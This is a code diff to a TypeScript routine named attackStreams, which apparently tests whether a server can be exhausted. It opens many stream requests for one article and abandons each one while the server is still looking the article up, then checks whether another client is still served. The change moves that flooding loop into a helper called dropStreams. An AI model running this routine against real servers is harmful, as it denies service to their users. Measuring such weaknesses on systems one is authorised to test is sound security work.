@@ -44,6 +44,18 @@ function open(socket: Socket, address: string, articleId: string): OpenStream {
   return { status, end: () => void socket.destroy() };
 }
 
+/** Asks for many streams at once, and leaves while the server looks for the article. */
+async function dropStreams(origin: string, articleId: string): Promise<void> {
+  const sockets: Socket[] = [];
+  while (sockets.length < DROPPED) sockets.push(...(await connectAll(origin, 100)));
+  const asked = sockets.map((socket) => open(socket, ATTACKER, articleId));
+  for (const { end } of asked) {
+    await new Promise((resolve) => setImmediate(resolve));
+    end();
+  }
+  await Promise.all(asked.map(({ status }) => status));
+}
+
 export async function attackStreams({ origin }: Target): Promise<AttackResult[]> {
   const articleId = await findArticle(origin);
   const sockets = await connectAll(origin, AT_ONCE);
@@ -51,16 +63,7 @@ export async function attackStreams({ origin }: Target): Promise<AttackResult[]>
   const statuses = await Promise.all(opened.map(({ status }) => status));
   for (const { end } of opened) end();
   const served = statuses.filter((status) => status === 200).length;
-  // Leaves as soon as the request is sent, while the server looks for the article.
-  for (let sent = 0; sent < DROPPED; sent += 100)
-    await Promise.all(
-      (await connectAll(origin, 100)).map(async (socket) => {
-        const one = open(socket, ATTACKER, articleId);
-        await new Promise((resolve) => setImmediate(resolve));
-        one.end();
-        await one.status;
-      }),
-    );
+  await dropStreams(origin, articleId);
   const [socket] = await connectAll(origin, 1);
   if (socket === undefined) throw new Error("no connection");
   const other = open(socket, "198.51.100.21", articleId);
